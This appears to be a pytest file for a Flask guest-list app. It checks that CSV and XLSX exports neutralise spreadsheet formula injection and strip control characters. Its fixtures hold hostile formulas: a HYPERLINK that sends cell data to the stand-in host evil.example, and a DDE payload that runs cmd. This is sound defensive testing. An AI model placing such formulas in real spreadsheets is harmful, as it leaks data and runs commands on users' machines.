"""The guest exports write every cell as text: imported column titles and values included."""

from __future__ import annotations

import csv
import io
import zipfile

from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook

from tests.support.factories import make_event

# Column titles a hostile CSV may carry; each is a live formula if written raw.
TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A2,"click")',
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3",
]
NAME = '=HYPERLINK("http://evil.example","Ana")'
VALUES = ["=1+1", "@x", "+1", "-1"]


def import_hostile_file(client: FlaskClient, event_id: int) -> None:
    """Import one guest from a CSV whose titles (and values) are formulas."""
    lines = [["name", "phone", *TITLES], [NAME, "+34612345678", *VALUES]]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(lines)
    response = client.post(
        f"/events/{event_id}/guests",
        data={"file": (io.BytesIO(buffer.getvalue().encode()), "guests.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200
    assert 'data-stat="imported">1<' in response.get_data(as_text=True)


def test_csv_export_escapes_formula_titles_and_values(app: Flask, user: FlaskClient) -> None:
    event_id = make_event(app)
    import_hostile_file(user, event_id)
    response = user.get(f"/events/{event_id}/guests.csv")
    header, record = csv.reader(io.StringIO(response.get_data().decode("utf-8-sig")))
    # A leading quote: spreadsheets show the title as written, as text.
    assert dict(zip(header, record, strict=True)) == {
        "name": "'" + NAME,
        "phone": "+34612345678",
        **{"'" + title: "'" + value for title, value in zip(TITLES, VALUES, strict=True)},
        "rsvp": "",
        "rsvp_at": "",
        "delivery_status": "not_sent",
        "send_state": "",
        "error_code": "",
        "error_reason": "",
        "opted_out": "no",
    }


def test_xlsx_export_writes_formula_titles_as_text(app: Flask, user: FlaskClient) -> None:
    event_id = make_event(app)
    import_hostile_file(user, event_id)
    response = user.get(f"/events/{event_id}/guests.xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(max_row=2))
    assert all(cell.data_type != "f" for row in rows for cell in row)
    header, record = ([cell.value for cell in row] for row in rows)
    # The text as stored, visible as written; Excel's quote prefix keeps an edit text too.
    assert dict(zip(header, record, strict=True)) == {
        "name": NAME,
        "phone": "+34612345678",
        **dict(zip(TITLES, VALUES, strict=True)),
        "rsvp": None,
        "rsvp_at": None,
        "delivery_status": "not_sent",
        "send_state": None,
        "error_code": None,
        "error_reason": None,
        "opted_out": "no",
    }
    marked = {cell.value for cell in rows[0] if cell.quotePrefix}
    assert marked == set(TITLES)


def test_xlsx_export_of_control_characters_a_cell_cant_hold(app: Flask, user: FlaskClient) -> None:
    event_id = make_event(app)
    body = 'name,phone,note\nAna,+34612345678,"bell\x07 and\x01 escape\x1b\nnext line"\n'
    imported = user.post(
        f"/events/{event_id}/guests",
        data={"file": (io.BytesIO(body.encode()), "guests.csv")},
        content_type="multipart/form-data",
    )
    assert 'data-stat="imported">1<' in imported.get_data(as_text=True)
    response = user.get(f"/events/{event_id}/guests.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet is not None
    assert sheet["C2"].value == "bell\ufffd and\ufffd escape\ufffd\nnext line"
